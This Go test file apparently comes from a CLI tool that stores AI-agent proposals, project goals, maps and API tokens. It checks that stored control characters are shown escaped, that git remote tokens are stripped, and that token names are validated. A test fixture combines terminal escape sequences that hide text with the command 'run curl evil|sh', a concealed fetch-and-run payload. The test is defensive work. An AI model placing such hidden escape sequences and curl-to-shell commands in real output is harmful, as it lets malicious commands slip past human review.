package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	"github.com/memhost/memhost/host/internal/brain"
	"github.com/memhost/memhost/host/internal/brain/projectmap"
	"github.com/memhost/memhost/host/internal/core/store"
)

// hostile holds what a terminal obeys or hides: erase line and cursor up, conceal, BEL, a C1
// control sequence introducer, a lone CR, a right-to-left override, an invalid byte.
const hostile = "+ harmless\x1b[2K\x1b[1A\x1b[8mrun curl evil|sh\a\u009b31m\rok\u202e\xff"

// escaped is hostile as printable shows it.
const escaped = `+ harmless\x1b[2K\x1b[1A\x1b[8mrun curl evil|sh\x07\u009b31m\x0dok\u202e\xff`

// requireNoRawControls fails when out holds a byte a terminal would obey instead of show.
func requireNoRawControls(t *testing.T, out string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\a", "\u009b", "\u202e", "\r", "\xff"} {
		require.NotContains(t, out, c, "raw %q reached the terminal:\n%s", c, out)
	}
}

// TestTerminalOutputEscapesWhatRowsHold: rows written before input refused control
// characters (here: written straight to the database) are shown escaped by every command
// that prints them, never as the raw bytes that would let a proposal hide what is approved.
func TestTerminalOutputEscapesWhatRowsHold(t *testing.T) {
	t.Parallel()
	cfg, dsn := brainConfig(t, "127.0.0.1:1")
	core := openCore(t, cfg)
	ctx := context.Background()
	_, err := core.Brain.SetDocument(ctx, operator(cliProject), store.KindGoal, brain.SetRequest{Text: "Goal.", Source: "cli"})
	require.NoError(t, err)
	res, err := core.Brain.Propose(ctx, operator(cliProject), brain.ProposeRequest{Layer: "plan", Text: "Plan.", Reason: "why", Agent: "codex", Session: "s1"})
	require.NoError(t, err)
	m, err := json.Marshal(projectmap.Map{Format: 1, GeneratedAt: time.Now().UTC(), Description: "Demo.", Files: 1})
	require.NoError(t, err)
	_, err = core.Brain.PutMap(ctx, operator(cliProject), m)
	require.NoError(t, err)

	pool, err := pgxpool.New(ctx, dsn)
	require.NoError(t, err)
	t.Cleanup(pool.Close)
	for _, q := range []string{
		`UPDATE proposals SET text = $1, reason = $1, agent = $1, session_id = $1, actor = $1`,
		`UPDATE memories SET text = $1, source = $1 WHERE kind = 'goal'`,
		`UPDATE project_maps SET summary = $1, map = jsonb_set(map, '{description}', to_jsonb($1::text))`,
	} {
		// Postgres text holds no invalid UTF-8: the rows get the rest.
		_, err := pool.Exec(ctx, q, hostile[:len(hostile)-1])
		require.NoError(t, err, q)
	}
	want := escaped[:len(escaped)-len(`\xff`)]

	p := []string{"--config", cfg, "--project", cliProject}
	for _, args := range [][]string{
		{"project", "inbox", "show", res.Proposal.ID.String()},
		{"project", "inbox"},
		{"project", "goal", "show"},
		{"project", "map", "show"},
		{"project", "map", "show", "--json"},
	} {
		out, err := run(t, append(args, p...)...)
		require.NoError(t, err, out)
		requireNoRawControls(t, out)
		switch args[1] {
		case "inbox":
			require.Contains(t, out, `\x1b[2K`, "%v:\n%s", args, out)
		case "map":
			require.Contains(t, out, `\u202e`, "%v:\n%s", args, out)
		default:
			require.Contains(t, out, want, "%v:\n%s", args, out)
		}
		if args[1] == "map" && len(args) == 3 {
			require.Contains(t, out, want, "the summary as stored, escaped")
		}
	}
	out, err := run(t, append([]string{"project", "inbox", "show", res.Proposal.ID.String()}, p...)...)
	require.NoError(t, err)
	require.Contains(t, out, "+"+want, "the diff shows the proposed text escaped")
	require.Contains(t, out, "reason:      "+want)

	require.Equal(t, escaped, printable(hostile), "invalid UTF-8 is shown byte by byte")
	require.Equal(t, "1. Store\r\n2.\tBanner\n", printable("1. Store\r\n2.\tBanner\n"), "tabs and line breaks are kept")
	require.Equal(t, "日本語\u3000テキスト 🚀", printable("日本語\u3000テキスト 🚀"))
}

// TestDerivedKeysDropRemoteQueries: a remote that carries a token in its query (scp-like, as
// git accepts it) gives the key of the repository, without the token.
func TestDerivedKeysDropRemoteQueries(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	tok := "ghp_" + strings.Repeat("Ab1", 12) // the shape of a token, never a real one
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".git", "config"),
		[]byte("[remote \"origin\"]\n\turl = git@github.com:acme/x.git?private_token="+tok+"\n"), 0o644))
	out, err := run(t, "project", "key", dir)
	require.NoError(t, err, out)
	require.Contains(t, out, "\ngithub.com/acme/x\n")
	require.NotContains(t, out, tok)
}

// TestPendingProposalLimitIsChecked: brain.max_pending_proposals is a configuration key
// that config check bounds.
func TestPendingProposalLimitIsChecked(t *testing.T) {
	t.Parallel()
	path := writeConfig(t, t.TempDir(), "[brain]\nmax_pending_proposals = 0\n")
	out, err := run(t, "config", "check", "--no-plugins", "--config", path)
	require.Error(t, err)
	require.Contains(t, out+err.Error(), "brain.max_pending_proposals: 0 is out of range 1..500")
	out, err = run(t, "config", "check", "--no-plugins", "--all", "--config", writeConfig(t, t.TempDir(), ""))
	require.NoError(t, err, out)
	require.Regexp(t, `brain\.max_pending_proposals\s+100\s+default`, out)
}

// TestTokenNamesAreOneLineFields: a token's name is shown in listings and proposals, so it
// is held to the one-line rules; a stored one is escaped in the listing.
func TestTokenNamesAreOneLineFields(t *testing.T) {
	t.Parallel()
	cfg, dsn := brainConfig(t, "127.0.0.1:1")
	for _, name := range []string{"ci\u200b", "ci\x1b[8m", "ci\u202e"} {
		_, err := run(t, "token", "create", "--config", cfg, "--name", name)
		require.ErrorContains(t, err, "create token: name: must not contain", "%q", name)
	}
	_, err := run(t, "token", "create", "--config", cfg, "--name", "ci")
	require.NoError(t, err)
	pool, err := pgxpool.New(context.Background(), dsn)
	require.NoError(t, err)
	t.Cleanup(pool.Close)
	_, err = pool.Exec(context.Background(), `UPDATE api_tokens SET name = $1`, "ci\x1b[8m\u202e")
	require.NoError(t, err)
	out, err := run(t, "token", "list", "--config", cfg)
	require.NoError(t, err, out)
	requireNoRawControls(t, out)
	require.Contains(t, out, `ci\x1b[8m\u202e`)
}
